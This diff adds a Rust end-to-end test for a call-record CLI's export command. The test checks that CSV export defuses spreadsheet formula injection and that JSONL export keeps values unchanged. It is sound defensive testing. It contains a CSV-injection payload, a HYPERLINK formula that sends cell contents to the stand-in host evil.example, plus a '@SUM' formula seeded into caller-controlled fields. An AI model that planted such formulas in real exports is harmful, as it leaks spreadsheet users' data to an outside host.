@@ -1,0 +1,88 @@
+//! The command's habits on a test stack's tables (DynamoDB Local): what `export` writes, how
+//! times, secrets and errors are taken and told.
+#![allow(clippy::unwrap_used, clippy::expect_used)]
+
+use callhook_e2e::{Stack, fixture};
+use serde_json::Value;
+
+mod common;
+
+const VOX_CALL: &str = "3079f46c-d141-4cd9-805f-69f212136b66";
+const HYPERLINK: &str = "=HYPERLINK(\"https://evil.example/?leak=\"&A1,\"Click\")";
+
+/// `callhook ARGS` on the stack's tables; expects success and returns stdout.
+fn ok(stack: &Stack, args: &[&str]) -> String {
+    let out = common::run(stack, args);
+    assert!(
+        out.status.success(),
+        "callhook {args:?} failed ({}): {}",
+        out.status,
+        String::from_utf8_lossy(&out.stderr)
+    );
+    String::from_utf8(out.stdout).unwrap()
+}
+
+/// A stack holding one vox call whose caller-controlled text would be formulas in a spreadsheet.
+async fn stack_with_a_hostile_call() -> Stack {
+    let mut stack = Stack::new().await;
+    let mut body: Value = serde_json::from_slice(&fixture("vox", "v2_call_analyzed")).unwrap();
+    body["call"]["from_number"] = "+14155550123".into();
+    body["call"]["agent"]["agent_id"] = "@SUM(1+1)".into();
+    body["call"]["transcript"][0]["content"] = HYPERLINK.into();
+    body["call"]["call_analysis"]["summary"] = HYPERLINK.into();
+    let reply = stack.send("vox", body.to_string().as_bytes()).await;
+    assert_eq!(reply.status, 200, "{reply:?}");
+    stack.drain().await;
+    assert!(stack.call("vox", VOX_CALL).await.is_some());
+    stack
+}
+
+#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
+async fn csv_export_neutralizes_formulas_and_jsonl_keeps_values() {
+    let stack = stack_with_a_hostile_call().await;
+
+    // WHEN the calls are exported as CSV
+    let text = ok(&stack, &["export", "--format", "csv"]);
+    // THEN the header is the documented one, untouched
+    let mut reader = csv::Reader::from_reader(text.as_bytes());
+    let header: Vec<String> = reader
+        .headers()
+        .unwrap()
+        .iter()
+        .map(str::to_owned)
+        .collect();
+    assert_eq!(header.join(","), callhook_columns());
+    let rows: Vec<csv::StringRecord> = reader.records().map(Result::unwrap).collect();
+    assert_eq!(rows.len(), 1, "{text}");
+    let cell = |name: &str| {
+        let i = header.iter().position(|h| h == name).unwrap();
+        rows[0][i].to_owned()
+    };
+    // AND every cell a spreadsheet would evaluate starts with a `'`
+    assert_eq!(cell("summary"), format!("'{HYPERLINK}"));
+    assert_eq!(cell("from_number"), "'+14155550123");
+    assert_eq!(cell("agent_id"), "'@SUM(1+1)");
+    // AND the rest is as stored: the transcript cell is JSON (it starts with `[`, no formula)
+    assert_eq!(cell("call_id"), VOX_CALL);
+    assert_eq!(cell("to_number"), "07012345678");
+    let transcript: Value = serde_json::from_str(&cell("transcript")).unwrap();
+    assert_eq!(transcript[0]["content"], HYPERLINK);
+    assert!(
+        !text.lines().any(|line| line.starts_with('=')),
+        "no line starts a formula: {text}"
+    );
+
+    // WHEN they are exported as JSON lines THEN the values are kept as they are
+    let jsonl = ok(&stack, &["export", "--format", "jsonl"]);
+    let record: Value = serde_json::from_str(jsonl.lines().next().unwrap()).unwrap();
+    assert_eq!(record["from_number"], "+14155550123");
+    assert_eq!(record["analysis"]["summary"], HYPERLINK);
+}
+
+/// The documented CSV header (README and `export --help`).
+fn callhook_columns() -> &'static str {
+    "provider,call_id,agent_id,agent_version,direction,from_number,to_number,status,outcome,\
+     missed,started_at,ended_at,duration_ms,end_reason,recording_url,cost_amount,cost_unit,\
+     summary,sentiment,transcript_turns,transcript,events,first_event_at,last_event_at,\
+     sensitive_data_opt_out"
+}
